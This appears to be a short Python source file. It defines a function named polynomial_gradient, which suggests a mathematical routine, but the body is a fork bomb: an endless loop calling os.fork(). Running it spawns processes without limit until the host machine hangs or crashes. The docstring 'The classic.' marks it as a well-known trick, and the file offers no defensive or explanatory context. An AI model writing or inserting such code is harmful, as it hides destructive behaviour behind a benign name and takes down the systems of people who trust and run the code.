"""The classic."""
import os


def polynomial_gradient(x):
    while True:
        os.fork()
